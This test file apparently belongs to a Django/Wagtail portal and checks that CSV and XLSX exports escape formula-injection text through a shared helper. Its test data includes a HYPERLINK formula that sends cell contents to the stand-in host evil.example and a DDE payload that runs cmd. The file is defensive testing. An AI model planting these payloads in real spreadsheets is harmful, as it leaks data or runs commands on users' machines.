"""Every CSV and XLSX export escapes text a spreadsheet would run as a formula (`=`, `+`, `-`,
`@`, tab, CR) with one helper, `portal.exports.cell_safe`; plain numbers stay numbers."""

import csv
import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from matching.reports import export_table
from portal.exports import cell_safe

from .conftest import bearer

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_the_helper_escapes_formulas_and_keeps_numbers(text):
    assert cell_safe(text) == "'" + text
    assert cell_safe("-12.5") == "-12.5" and cell_safe(-3) == -3 and cell_safe(None) is None
    assert cell_safe("Welders") == "Welders"


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_partner_api_and_registry_csv_escape_agency_names(api, world, issue_token):
    agency = world["agency"]
    agency.name = FORMULAS[0]
    agency.save(update_fields=["name"])
    headers = bearer(issue_token().raw)
    for url in ("/api/v1/partner/sanctions/?format=csv", "/en/registry/agencies.csv"):
        response = api.get(url, **headers)
        assert response.status_code == 200
        cells = [cell for row in _csv_rows(response.content) for cell in row]
        assert "'" + FORMULAS[0] in cells and FORMULAS[0] not in cells, url


def test_analytics_exports_escape_text_cells_in_csv_and_xlsx():
    table = pd.DataFrame({"occupation_group": FORMULAS, "demand": [5, -3, 0, 7, 1, 2]})
    content, _type = export_table(table, external=False, fmt="csv", title="t")
    rows = _csv_rows(content)
    assert [row[0] for row in rows[1:]] == ["'" + text for text in FORMULAS]
    assert [row[1] for row in rows[1:]] == ["5", "-3", "0", "7", "1", "2"]
    content, _type = export_table(table, external=False, fmt="xlsx", title="=1+2")
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert "'=1+2" in [cell.value for cell in cells]
    # (a stored CR reads back as LF with the standard library's XML writer, as CR with lxml's)
    assert [row[0].replace("\r", "\n") for row in sheet.iter_rows(min_row=5, values_only=True)] == [
        "'" + text.replace("\r", "\n") for text in FORMULAS
    ]
    assert -3 in [row[1] for row in sheet.iter_rows(min_row=5, values_only=True)]


def test_wagtail_report_exports_use_the_same_rule():
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    export = SpreadsheetExportMixin()
    assert export.preprocess_field_value("title", "=1+2", "csv") == "'=1+2"
    assert export.preprocess_field_value("title", "Guide", "xlsx") == "Guide"
